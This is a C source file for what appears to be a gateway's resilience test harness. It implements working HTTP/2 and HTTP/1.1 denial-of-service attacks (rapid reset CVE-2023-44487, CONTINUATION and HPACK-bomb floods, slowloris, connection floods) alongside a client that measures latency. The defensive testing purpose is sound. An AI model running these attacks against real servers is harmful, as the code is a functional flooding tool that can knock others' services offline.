/*
 * tests/attack/attack.c — the two client processes of the attack harness (tests/attack/harness.py):
 * one attacker, as fast as one process on one core can go, and the legitimate client that measures.
 *
 *   attack MODE -p PORT [-h 127.0.0.1] [-s SOURCE] [-t SECONDS] [-c CONNS] [-P PATH] [-B BIGPATH]
 *   attack legit -p PORT -s 127.0.0.2 -t SECONDS [-i INTERVAL_MS] [-P PATH]
 *
 * Attack modes (HTTP/2 by prior knowledge on a cleartext port, except slowloris-h1):
 *   rapid-reset    HEADERS then RST_STREAM(CANCEL), new streams without end (CVE-2023-44487)
 *   continuation   one HEADERS without END_HEADERS, then 16 KiB CONTINUATION frames without end
 *   hpack-bomb     a 4 KB dynamic-table entry, then requests referencing it 16,000 times each (64 MB)
 *   settings/ping  SETTINGS or PING frames without end, the acknowledgements never read
 *   window-priority WINDOW_UPDATE and PRIORITY frames without end
 *   slow-reader    10 requests per connection for BIGPATH with windows opened wide, nothing read
 *   slowloris-h1   HTTP/1.1 heads trickled a byte per connection per second
 *   slowloris-h2   10 request bodies per connection trickled a byte per stream per second
 *   idle           connections that send the preface and then nothing (default 10,000)
 *   connect-flood  a connection per request, as many per second as possible
 * Whatever the server closes is opened again: at once in the flood modes, at the next second's tick
 * in the slow ones. Prints one JSON line of counts at the end. The legitimate client opens a fresh
 * connection from SOURCE every INTERVAL_MS (open loop: it does not wait for the previous answer),
 * asks GET PATH over HTTP/2 and prints "start_us latency_us status" per request (status 0: no
 * answer within 2 s, or the connection failed or closed first). Loopback only; bounded by -t.
 * Not part of the gateway: a test tool, built without sanitizers so that it attacks at full speed.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define WBUF (256 << 10)
#define RBUF (64 << 10)
#define LEGIT_TIMEOUT_US 2000000
#define BOMB_REFS 16000
#define TRICKLE_STREAMS 10
#define SLOW_READER_STREAMS 10

enum { T_DATA = 0, T_HEADERS = 1, T_PRIORITY = 2, T_RST = 3, T_SETTINGS = 4, T_PING = 6, T_GOAWAY = 7,
       T_WINDOW_UPDATE = 8, T_CONTINUATION = 9 };
enum { F_END_STREAM = 1, F_ACK = 1, F_END_HEADERS = 4 };
static const char PREFACE[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

typedef struct {
    int fd, open;      /* open: connected and written to at least once */
    uint32_t next_sid; /* the next client stream id */
    uint64_t sent;     /* frames or bytes sent on this connection (mode-specific) */
    uint8_t *pend;     /* the rest of a write the socket did not take (frames are never cut) */
    size_t pend_len;
    /* legit only */
    uint64_t t0_us;
    int status, done;
    uint8_t rbuf[RBUF];
    size_t rlen;
} conn_t;

static const char *host = "127.0.0.1", *source = NULL, *path = "/", *bigpath = "/";
static int port, seconds = 3, nconns = -1, interval_ms = 20;
static struct {
    uint64_t connects, refused, closed, streams, frames, bytes;
} st;
static uint8_t req_get[256], req_big[256], req_post[256];
static size_t req_get_len, req_big_len, req_post_len;

static uint64_t now_us(int realtime)
{
    struct timespec ts;
    clock_gettime(realtime ? CLOCK_REALTIME : CLOCK_MONOTONIC, &ts);
    return (uint64_t)ts.tv_sec * 1000000 + (uint64_t)ts.tv_nsec / 1000;
}

/* ---- HTTP/2 and HPACK, just enough to write the frames above ------------------------------------- */

static size_t frame_head(uint8_t *p, size_t len, int type, int flags, uint32_t sid)
{
    p[0] = (uint8_t)(len >> 16), p[1] = (uint8_t)(len >> 8), p[2] = (uint8_t)len;
    p[3] = (uint8_t)type, p[4] = (uint8_t)flags;
    p[5] = (uint8_t)(sid >> 24) & 0x7f, p[6] = (uint8_t)(sid >> 16), p[7] = (uint8_t)(sid >> 8), p[8] = (uint8_t)sid;
    return 9;
}

static size_t frame(uint8_t *p, int type, int flags, uint32_t sid, const void *payload, size_t len)
{
    size_t n = frame_head(p, len, type, flags, sid);
    memcpy(p + n, payload, len);
    return n + len;
}

/* an HPACK integer with an N-bit prefix whose high bits are FIRST */
static size_t hpack_int(uint8_t *p, uint8_t first, int nbits, uint64_t v)
{
    uint64_t max = (1u << nbits) - 1;
    size_t n = 0;
    if (v < max) {
        p[n++] = first | (uint8_t)v;
        return n;
    }
    p[n++] = first | (uint8_t)max;
    for (v -= max; v >= 128; v >>= 7)
        p[n++] = (uint8_t)(v & 0x7f) | 0x80;
    p[n++] = (uint8_t)v;
    return n;
}

/* literal without indexing, name from the static table (index IDX), value as given */
static size_t hpack_lit(uint8_t *p, int idx, const char *value)
{
    size_t n = hpack_int(p, 0x00, 4, (uint64_t)idx), len = strlen(value);
    n += hpack_int(p + n, 0x00, 7, len);
    memcpy(p + n, value, len);
    return n + len;
}

/* a request header block: METHOD (0x82 GET, 0x83 POST), :scheme http, :path, :authority */
static size_t request_block(uint8_t *p, uint8_t method, const char *reqpath, const char *content_length)
{
    size_t n = 0;
    p[n++] = method;
    p[n++] = 0x86;
    n += hpack_lit(p + n, 4, reqpath);
    n += hpack_lit(p + n, 1, "localhost");
    if (content_length)
        n += hpack_lit(p + n, 28, content_length);
    return n;
}

/* the client preface and a SETTINGS frame, optionally with one setting */
static size_t preface(uint8_t *p, int id, uint32_t value)
{
    uint8_t s[6] = {(uint8_t)(id >> 8), (uint8_t)id, (uint8_t)(value >> 24), (uint8_t)(value >> 16),
                    (uint8_t)(value >> 8), (uint8_t)value};
    memcpy(p, PREFACE, sizeof PREFACE - 1);
    return sizeof PREFACE - 1 + frame(p + sizeof PREFACE - 1, T_SETTINGS, 0, 0, s, id ? 6 : 0);
}

static size_t u32(uint8_t *p, uint32_t v)
{
    p[0] = (uint8_t)(v >> 24), p[1] = (uint8_t)(v >> 16), p[2] = (uint8_t)(v >> 8), p[3] = (uint8_t)v;
    return 4;
}

/* ---- attack modes: what a connection writes when it is first opened and whenever it can write ------ */

typedef struct {
    const char *name;
    int default_conns;
    int reads;   /* reads (and discards) what the server sends; 0: never reads */
    int paced;   /* writes once per second (the slow modes); reopens closed connections at the tick */
    int rcvbuf;  /* SO_RCVBUF before connecting (0: the default) */
    int one_request; /* closes (and reopens) once the answer to stream 1 has ended */
    size_t (*first)(conn_t *c, uint8_t *p);           /* on connect */
    size_t (*more)(conn_t *c, uint8_t *p, size_t cap); /* when writable (flood) or at each tick (paced) */
} attack_mode_t;

static size_t first_h2(conn_t *c, uint8_t *p)
{
    c->next_sid = 1;
    return preface(p, 0, 0);
}

static size_t more_rapid_reset(conn_t *c, uint8_t *p, size_t cap)
{
    size_t n = 0;
    static const uint8_t cancel[4] = {0, 0, 0, 8};
    while (n + 9 + req_get_len + 13 <= cap && c->next_sid < 0x7fffff00) {
        n += frame(p + n, T_HEADERS, F_END_HEADERS | F_END_STREAM, c->next_sid, req_get, req_get_len);
        n += frame(p + n, T_RST, 0, c->next_sid, cancel, 4);
        c->next_sid += 2;
        st.streams++, st.frames += 2;
    }
    return n;
}

static size_t first_continuation(conn_t *c, uint8_t *p)
{
    uint8_t block[300];
    size_t b = req_get_len;
    memcpy(block, req_get, b);
    block[b++] = 0x00; /* a literal field, new name: empty; its value as long as an HPACK length goes */
    block[b++] = 0x00;
    b += hpack_int(block + b, 0x00, 7, (uint64_t)1 << 28);
    size_t n = first_h2(c, p);
    n += frame(p + n, T_HEADERS, F_END_STREAM, 1, block, b); /* no END_HEADERS */
    st.streams++, st.frames++;
    return n;
}

static size_t more_continuation(conn_t *c, uint8_t *p, size_t cap)
{
    size_t n = 0;
    while (n + 9 + 16384 <= cap) {
        n += frame_head(p + n, 16384, T_CONTINUATION, 0, 1);
        memset(p + n, 'a', 16384); /* the value of that field, never ended */
        n += 16384;
        st.frames++;
    }
    return n;
}

static size_t first_hpack_bomb(conn_t *c, uint8_t *p)
{
    uint8_t block[8192];
    size_t b = request_block(block, 0x82, path, NULL);
    block[b++] = 0x40; /* literal with incremental indexing, new name: the entry every request then references */
    b += hpack_int(block + b, 0x00, 7, 3);
    memcpy(block + b, "x-b", 3), b += 3;
    b += hpack_int(block + b, 0x00, 7, 4000);
    memset(block + b, 'a', 4000), b += 4000;
    size_t n = first_h2(c, p);
    n += frame(p + n, T_HEADERS, F_END_HEADERS | F_END_STREAM, c->next_sid, block, b);
    c->next_sid += 2;
    st.streams++, st.frames++;
    return n;
}

static size_t more_hpack_bomb(conn_t *c, uint8_t *p, size_t cap)
{
    size_t n = 0;
    while (n + 9 + req_get_len + BOMB_REFS <= cap && c->next_sid < 0x7fffff00) {
        n += frame_head(p + n, req_get_len + BOMB_REFS, T_HEADERS, F_END_HEADERS | F_END_STREAM, c->next_sid);
        memcpy(p + n, req_get, req_get_len), n += req_get_len;
        memset(p + n, 0x80 | 62, BOMB_REFS), n += BOMB_REFS; /* indexed: dynamic entry 62, 4,035 bytes each */
        c->next_sid += 2;
        st.streams++, st.frames++;
    }
    return n;
}

static size_t more_settings(conn_t *c, uint8_t *p, size_t cap)
{
    static const uint8_t s[6] = {0, 2, 0, 0, 0, 0}; /* ENABLE_PUSH 0 */
    size_t n = 0;
    for (; n + 15 <= cap; st.frames++)
        n += frame(p + n, T_SETTINGS, 0, 0, s, 6);
    return n;
}

static size_t more_ping(conn_t *c, uint8_t *p, size_t cap)
{
    static const uint8_t opaque[8] = "hegate!!";
    size_t n = 0;
    for (; n + 17 <= cap; st.frames++)
        n += frame(p + n, T_PING, 0, 0, opaque, 8);
    return n;
}

static size_t more_window_priority(conn_t *c, uint8_t *p, size_t cap)
{
    size_t n = 0;
    uint8_t pl[5];
    while (n + 13 + 14 <= cap) {
        u32(pl, 1); /* one more byte of connection window: 2 billion of these before it overflows */
        n += frame(p + n, T_WINDOW_UPDATE, 0, 0, pl, 4);
        /* stream 3 (always the same: h2o 2.2.5 itself refuses many idle streams), weight 16 */
        u32(pl, 0), pl[4] = 15;
        n += frame(p + n, T_PRIORITY, 0, 3, pl, 5);
        st.frames += 2;
    }
    return n;
}

static size_t first_slow_reader(conn_t *c, uint8_t *p)
{
    uint8_t pl[4];
    size_t n = preface(p, 4, 0x7fffffff); /* INITIAL_WINDOW_SIZE: as large as it goes */
    u32(pl, 0x7fffffff - 65535);
    n += frame(p + n, T_WINDOW_UPDATE, 0, 0, pl, 4);
    for (int i = 0; i < SLOW_READER_STREAMS; i++, st.streams++, st.frames++)
        n += frame(p + n, T_HEADERS, F_END_HEADERS | F_END_STREAM, 1 + 2 * (uint32_t)i, req_big, req_big_len);
    return n;
}

static size_t more_nothing(conn_t *c, uint8_t *p, size_t cap)
{
    return 0;
}

static size_t first_nothing(conn_t *c, uint8_t *p)
{
    return 0;
}

static size_t more_slowloris_h1(conn_t *c, uint8_t *p, size_t cap)
{
    static const char head[] = "GET / HTTP/1.1\r\nHost: localhost\r\n";
    static const char more[] = "X-a: b\r\n"; /* a head that never ends */
    uint64_t i = c->sent++;
    p[0] = (uint8_t)(i < sizeof head - 1 ? head[i] : more[(i - (sizeof head - 1)) % (sizeof more - 1)]);
    return 1;
}

static size_t first_slowloris_h2(conn_t *c, uint8_t *p)
{
    size_t n = first_h2(c, p);
    for (int i = 0; i < TRICKLE_STREAMS; i++, st.streams++, st.frames++)
        n += frame(p + n, T_HEADERS, F_END_HEADERS, 1 + 2 * (uint32_t)i, req_post, req_post_len);
    return n;
}

static size_t more_slowloris_h2(conn_t *c, uint8_t *p, size_t cap)
{
    size_t n = 0;
    for (int i = 0; i < TRICKLE_STREAMS; i++, st.frames++)
        n += frame(p + n, T_DATA, 0, 1 + 2 * (uint32_t)i, "x", 1);
    return n;
}

static size_t first_connect_flood(conn_t *c, uint8_t *p)
{
    size_t n = first_h2(c, p);
    n += frame(p + n, T_HEADERS, F_END_HEADERS | F_END_STREAM, 1, req_get, req_get_len);
    st.streams++, st.frames++;
    return n;
}

static const attack_mode_t modes[] = {
    {"rapid-reset", 4, 1, 0, 0, 0, first_h2, more_rapid_reset},
    {"continuation", 4, 1, 0, 0, 0, first_continuation, more_continuation},
    {"hpack-bomb", 4, 1, 0, 0, 0, first_hpack_bomb, more_hpack_bomb},
    {"settings", 4, 0, 0, 0, 0, first_h2, more_settings},
    {"ping", 4, 0, 0, 0, 0, first_h2, more_ping},
    {"window-priority", 4, 1, 0, 0, 0, first_h2, more_window_priority},
    {"slow-reader", 32, 0, 1, 4096, 0, first_slow_reader, more_nothing},
    {"slowloris-h1", 1000, 1, 1, 0, 0, first_nothing, more_slowloris_h1},
    {"slowloris-h2", 100, 1, 1, 0, 0, first_slowloris_h2, more_slowloris_h2},
    {"idle", 10000, 1, 1, 0, 0, first_h2, more_nothing},
    {"connect-flood", 64, 1, 0, 0, 1, first_connect_flood, more_nothing},
};

/* ---- sockets ------------------------------------------------------------------------------------- */

static int open_socket(int rcvbuf)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0), one = 1;
    if (fd < 0)
        return -1;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    if (rcvbuf)
        setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &rcvbuf, sizeof rcvbuf);
    if (source) {
        struct sockaddr_in sa = {.sin_family = AF_INET};
        inet_pton(AF_INET, source, &sa.sin_addr);
        if (bind(fd, (struct sockaddr *)&sa, sizeof sa) != 0) {
            close(fd);
            return -1;
        }
    }
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    inet_pton(AF_INET, host, &to.sin_addr);
    if (connect(fd, (struct sockaddr *)&to, sizeof to) != 0 && errno != EINPROGRESS) {
        close(fd);
        return -1;
    }
    return fd;
}

/* writes what fits without blocking; -1 when the connection is gone */
static ssize_t write_some(int fd, const uint8_t *p, size_t n)
{
    ssize_t w = send(fd, p, n, MSG_NOSIGNAL | MSG_DONTWAIT);
    if (w < 0)
        return errno == EAGAIN || errno == EWOULDBLOCK ? 0 : -1;
    st.bytes += (uint64_t)w;
    return w;
}

static int legit_scan(conn_t *c);

/* writes LEN bytes at P after what is pending; what the socket does not take waits for the next
 * writable event. -1 when the connection is gone. */
static int conn_write(conn_t *c, const uint8_t *p, size_t n)
{
    if (c->pend_len != 0) {
        ssize_t w = write_some(c->fd, c->pend, c->pend_len);
        if (w < 0)
            return -1;
        memmove(c->pend, c->pend + w, c->pend_len - (size_t)w);
        c->pend_len -= (size_t)w;
    }
    if (n == 0)
        return 0;
    ssize_t w = c->pend_len == 0 ? write_some(c->fd, p, n) : 0;
    if (w < 0)
        return -1;
    if ((size_t)w < n) {
        if (c->pend == NULL && (c->pend = malloc(2 * WBUF)) == NULL)
            return -1;
        if (c->pend_len + n - (size_t)w > 2 * WBUF)
            return -1; /* cannot happen: nothing new is made while something is pending */
        memcpy(c->pend + c->pend_len, p + w, n - (size_t)w);
        c->pend_len += n - (size_t)w;
    }
    return 0;
}

/* ---- the attacker -------------------------------------------------------------------------------- */

static int conn_open(int ep, conn_t *c, const attack_mode_t *m)
{
    uint8_t *pend = c->pend;
    memset(c, 0, offsetof(conn_t, rbuf));
    c->pend = pend;
    c->fd = open_socket(m->rcvbuf);
    st.connects++;
    if (c->fd < 0) {
        st.refused++;
        return -1;
    }
    struct epoll_event ev = {.events = EPOLLOUT | (m->reads ? EPOLLIN : 0) | EPOLLRDHUP, .data.ptr = c};
    epoll_ctl(ep, EPOLL_CTL_ADD, c->fd, &ev);
    return 0;
}

static void conn_close(conn_t *c)
{
    if (c->fd >= 0) {
        close(c->fd);
        st.closed++;
        if (!c->open)
            st.refused++;
    }
    c->fd = -1;
}

static int run_attack(const attack_mode_t *m)
{
    int n = nconns > 0 ? nconns : m->default_conns;
    conn_t *cs = calloc((size_t)n, sizeof *cs);
    uint8_t *buf = malloc(WBUF);
    int ep = epoll_create1(EPOLL_CLOEXEC);
    struct epoll_event evs[256];
    if (!cs || !buf || ep < 0)
        return 1;
    for (int i = 0; i < n; i++)
        cs[i].fd = -1;
    uint64_t end = now_us(0) + (uint64_t)seconds * 1000000, tick = 0;
    for (;;) {
        uint64_t now = now_us(0);
        if (now >= end)
            break;
        if (now >= tick) { /* open what is not open (all of them, the first time); the paced modes write */
            tick = now + 1000000;
            for (int i = 0; i < n; i++) {
                conn_t *c = &cs[i];
                if (c->fd < 0) {
                    conn_open(ep, c, m);
                } else if (m->paced && c->open) {
                    size_t len = c->pend_len == 0 ? m->more(c, buf, WBUF) : 0;
                    if (conn_write(c, buf, len) < 0)
                        conn_close(c);
                }
            }
        }
        int k = epoll_wait(ep, evs, 256, 20);
        for (int e = 0; e < k; e++) {
            conn_t *c = evs[e].data.ptr;
            if (c->fd < 0)
                continue;
            if ((evs[e].events & EPOLLIN) && m->one_request) {
                ssize_t r = recv(c->fd, c->rbuf + c->rlen, RBUF - c->rlen, MSG_DONTWAIT);
                if (r == 0 || (r < 0 && errno != EAGAIN && errno != EWOULDBLOCK))
                    goto gone;
                if (r > 0 && (c->rlen += (size_t)r, legit_scan(c) != 0))
                    goto gone; /* answered (or refused): the next connection */
            } else if (evs[e].events & EPOLLIN) {
                ssize_t r;
                while ((r = recv(c->fd, buf, WBUF, MSG_DONTWAIT)) > 0)
                    ;
                if (r == 0 || (r < 0 && errno != EAGAIN && errno != EWOULDBLOCK))
                    goto gone;
            }
            if (evs[e].events & (EPOLLERR | EPOLLHUP))
                goto gone;
            if (evs[e].events & EPOLLOUT) {
                size_t len = 0;
                if (!c->open) {
                    c->open = 1;
                    len = m->first(c, buf);
                    if (!m->paced)
                        len += m->more(c, buf + len, WBUF - len);
                    if (m->paced || m->more == more_nothing) { /* nothing more to write until the tick */
                        struct epoll_event ev = {.events = (m->reads ? EPOLLIN : 0) | EPOLLRDHUP, .data.ptr = c};
                        epoll_ctl(ep, EPOLL_CTL_MOD, c->fd, &ev);
                    }
                } else if (c->pend_len == 0) {
                    len = m->more(c, buf, WBUF);
                }
                if (conn_write(c, buf, len) < 0)
                    goto gone;
            }
            if ((evs[e].events & EPOLLRDHUP) && !m->reads)
                goto gone;
            continue;
        gone:
            conn_close(c);
            if (!m->paced)
                conn_open(ep, c, m);
        }
    }
    for (int i = 0; i < n; i++)
        if (cs[i].fd >= 0)
            close(cs[i].fd);
    printf("{\"mode\":\"%s\",\"connections\":%d,\"connects\":%llu,\"refused\":%llu,\"closed_by_server\":%llu,"
           "\"streams_written\":%llu,\"frames\":%llu,\"bytes\":%llu}\n",
           m->name, n, (unsigned long long)st.connects, (unsigned long long)st.refused,
           (unsigned long long)st.closed, (unsigned long long)st.streams, (unsigned long long)st.frames,
           (unsigned long long)st.bytes);
    return 0;
}

/* ---- the legitimate client ------------------------------------------------------------------------- */

/* reads the server's frames: the :status of stream 1 (static-table indexes only: 200 is 0x88) and
 * whether stream 1 ended; 1 when done, -1 when the connection is no use any more */
static int legit_scan(conn_t *c)
{
    size_t off = 0;
    while (c->rlen - off >= 9) {
        size_t len = (size_t)c->rbuf[off] << 16 | (size_t)c->rbuf[off + 1] << 8 | c->rbuf[off + 2];
        int type = c->rbuf[off + 3], flags = c->rbuf[off + 4];
        uint32_t sid = ((uint32_t)c->rbuf[off + 5] & 0x7f) << 24 | (uint32_t)c->rbuf[off + 6] << 16 |
                       (uint32_t)c->rbuf[off + 7] << 8 | c->rbuf[off + 8];
        if (len > RBUF - 9)
            return -1;
        if (c->rlen - off < 9 + len)
            break;
        const uint8_t *pl = c->rbuf + off + 9;
        if (type == T_GOAWAY)
            return -1;
        if (type == T_RST && sid == 1)
            return -1;
        if (type == T_HEADERS && sid == 1 && !c->status) {
            size_t skip = (flags & 8) ? 1 + pl[0] : 0; /* PADDED */
            if (flags & 0x20)                          /* PRIORITY */
                skip += 5;
            static const int statuses[] = {200, 204, 206, 304, 400, 404, 500};
            uint8_t b = skip < len ? pl[skip] : 0;
            c->status = b >= 0x88 && b <= 0x8e ? statuses[b - 0x88] : 1; /* 1: some other status */
        }
        if ((type == T_DATA || type == T_HEADERS) && sid == 1 && (flags & F_END_STREAM))
            return 1;
        off += 9 + len;
    }
    memmove(c->rbuf, c->rbuf + off, c->rlen - off);
    c->rlen -= off;
    return 0;
}

static void legit_finish(conn_t *c, int ok)
{
    uint64_t t = now_us(1);
    printf("%llu %llu %d\n", (unsigned long long)c->t0_us, (unsigned long long)(t - c->t0_us), ok ? c->status : 0);
    if (c->fd >= 0)
        close(c->fd);
    c->fd = -1;
    c->done = 1;
}

static int run_legit(void)
{
    enum { SLOTS = 512 };
    static conn_t cs[SLOTS];
    uint8_t out[512];
    size_t outlen = preface(out, 0, 0);
    outlen += frame(out + outlen, T_HEADERS, F_END_HEADERS | F_END_STREAM, 1, req_get, req_get_len);
    int ep = epoll_create1(EPOLL_CLOEXEC);
    struct epoll_event evs[64];
    for (int i = 0; i < SLOTS; i++)
        cs[i].fd = -1, cs[i].done = 1;
    uint64_t start = now_us(0), end = start + (uint64_t)seconds * 1000000, next = start;
    int active = 0;
    while (now_us(0) < end || active) {
        uint64_t now = now_us(0);
        if (now < end && now >= next) {
            next += (uint64_t)interval_ms * 1000;
            int i = 0;
            while (i < SLOTS && !cs[i].done)
                i++;
            if (i < SLOTS) {
                conn_t *c = &cs[i];
                memset(c, 0, offsetof(conn_t, rbuf));
                c->t0_us = now_us(1);
                c->fd = open_socket(0);
                if (c->fd < 0) {
                    legit_finish(c, 0);
                } else {
                    struct epoll_event ev = {.events = EPOLLOUT | EPOLLIN | EPOLLRDHUP, .data.ptr = c};
                    epoll_ctl(ep, EPOLL_CTL_ADD, c->fd, &ev);
                    active++;
                }
            }
        }
        uint64_t rt = now_us(1);
        for (int i = 0; i < SLOTS; i++)
            if (!cs[i].done && rt - cs[i].t0_us > LEGIT_TIMEOUT_US)
                legit_finish(&cs[i], 0), active--;
        int wait_ms = (int)((next > now ? next - now : 0) / 1000) + 1;
        int k = epoll_wait(ep, evs, 64, wait_ms > 10 ? 10 : wait_ms);
        for (int e = 0; e < k; e++) {
            conn_t *c = evs[e].data.ptr;
            if (c->done)
                continue;
            int verdict = 0;
            if ((evs[e].events & EPOLLOUT) && !c->open) {
                c->open = 1;
                if (send(c->fd, out, outlen, MSG_NOSIGNAL) != (ssize_t)outlen)
                    verdict = -1;
                struct epoll_event ev = {.events = EPOLLIN | EPOLLRDHUP, .data.ptr = c};
                epoll_ctl(ep, EPOLL_CTL_MOD, c->fd, &ev);
            }
            if (!verdict && (evs[e].events & EPOLLIN)) {
                ssize_t r = recv(c->fd, c->rbuf + c->rlen, RBUF - c->rlen, MSG_DONTWAIT);
                if (r > 0) {
                    c->rlen += (size_t)r;
                    verdict = legit_scan(c);
                } else if (r == 0 || (errno != EAGAIN && errno != EWOULDBLOCK)) {
                    verdict = -1;
                }
            } else if (!verdict && (evs[e].events & (EPOLLERR | EPOLLHUP))) {
                verdict = -1;
            }
            if (verdict) {
                legit_finish(c, verdict > 0);
                active--;
            }
        }
    }
    return 0;
}

static int usage(void)
{
    fprintf(stderr, "usage: attack MODE|legit -p PORT [-h HOST] [-s SOURCE] [-t SECONDS] [-c CONNS] [-i INTERVAL_MS] "
                    "[-P PATH] [-B BIGPATH]\nmodes:");
    for (size_t i = 0; i < sizeof modes / sizeof modes[0]; i++)
        fprintf(stderr, " %s", modes[i].name);
    fprintf(stderr, "\n");
    return 2;
}

int main(int argc, char **argv)
{
    if (argc < 2)
        return usage();
    const char *mode = argv[1];
    int opt;
    optind = 2;
    while ((opt = getopt(argc, argv, "h:p:s:t:c:i:P:B:")) != -1) {
        switch (opt) {
        case 'h': host = optarg; break;
        case 'p': port = atoi(optarg); break;
        case 's': source = optarg; break;
        case 't': seconds = atoi(optarg); break;
        case 'c': nconns = atoi(optarg); break;
        case 'i': interval_ms = atoi(optarg); break;
        case 'P': path = optarg; break;
        case 'B': bigpath = optarg; break;
        default: return usage();
        }
    }
    if (port <= 0 || seconds <= 0 || interval_ms <= 0 || strlen(path) > 200 || strlen(bigpath) > 200)
        return usage();
    signal(SIGPIPE, SIG_IGN);
    struct rlimit rl; /* 10,000 idle connections need as many descriptors as the hard limit allows */
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < rl.rlim_max) {
        rl.rlim_cur = rl.rlim_max;
        setrlimit(RLIMIT_NOFILE, &rl);
    }
    setvbuf(stdout, NULL, _IOFBF, 1 << 16);
    req_get_len = request_block(req_get, 0x82, path, NULL);
    req_big_len = request_block(req_big, 0x82, bigpath, NULL);
    req_post_len = request_block(req_post, 0x83, path, "1000000");
    if (strcmp(mode, "legit") == 0)
        return run_legit();
    for (size_t i = 0; i < sizeof modes / sizeof modes[0]; i++)
        if (strcmp(mode, modes[i].name) == 0)
            return run_attack(&modes[i]);
    return usage();
}
